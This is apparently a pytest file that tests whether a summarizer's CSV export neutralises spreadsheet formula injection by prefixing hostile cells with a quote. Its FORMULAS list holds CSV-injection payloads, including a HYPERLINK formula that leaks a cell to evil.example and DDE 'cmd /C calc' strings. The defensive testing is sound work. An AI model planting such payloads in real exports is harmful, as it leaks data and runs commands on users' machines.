"""CSV export against hostile cells: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest

from summarizer.corpus import merge_corpus
from summarizer.corpus.export import (
    EVENT_COLUMNS,
    STANCE_COLUMNS,
    neutralise_cell,
    write_events_csv,
    write_stances_csv,
)

from .test_corpus import _analysis, _day, _event, _stance

# What CSV-injection write-ups use: a formula, DDE, a link that leaks the row, and the tab/CR variants
# that some spreadsheets strip before looking for the "=".
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A name cannot hold digits, "=" or "|" (schemas.Name), but a formula can still start with "@", "+" or "-".
NAME_FORMULA = "@cmd' /C calc'!A"


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as f:
        header, *rows = list(csv.reader(f))
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_that_would_be_formulas_start_with_a_quote(tmp_path: Path, formula: str) -> None:
    day = _day(dt.date(2024, 2, 2))
    event = _event(["Iran"], formula, "REJECT", description=formula, location=NAME_FORMULA, **day)
    stance = _stance("Iran", "US", quote=formula).model_copy(update={"position": formula})
    corpus = merge_corpus([("a", _analysis([event], [stance], published=dt.date(2024, 2, 3)))])

    assert write_events_csv(corpus, tmp_path / "events.csv") == 1
    assert write_stances_csv(corpus, tmp_path / "stances.csv") == 1
    # What the corpus holds (it trims the leading tab or CR of some fields), behind one quote.
    (merged,) = corpus.events
    (row,) = _rows(tmp_path / "events.csv")
    assert row["description"] == "'" + merged.description
    assert row["location"] == "'" + (merged.location or "")
    assert row["quotes"] == "'" + merged.sources[0].quote
    (point,) = [p for points in corpus.stances.values() for p in points]
    (row,) = _rows(tmp_path / "stances.csv")
    assert (row["position"], row["quote"]) == ("'" + point.position, "'" + point.quote)
    assert formula.lstrip("\t\r") in row["quote"]


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1", "=1+1"])
def test_a_leading_tab_or_carriage_return_is_neutralised_too(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


def test_ordinary_cells_are_written_unchanged(tmp_path: Path) -> None:
    # A formula sign inside a cell is harmless: only the first character makes a formula.
    text = "Prices rose 5% (+2 on the week) = a record; email a@b.example - 3 times"
    event = _event(["Iran"], text, "REJECT", description=text, **_day(dt.date(2024, 2, 2)))
    corpus = merge_corpus([("a", _analysis([event], [_stance("Iran", "US", quote=text)]))])
    write_events_csv(corpus, tmp_path / "events.csv")
    write_stances_csv(corpus, tmp_path / "stances.csv")
    (event_row,) = _rows(tmp_path / "events.csv")
    (stance_row,) = _rows(tmp_path / "stances.csv")
    assert (event_row["description"], event_row["quotes"], event_row["date_start"]) == (
        text,
        text,
        "2024-02-02",
    )
    assert stance_row["quote"] == text
    assert tuple(event_row) == EVENT_COLUMNS and tuple(stance_row) == STANCE_COLUMNS
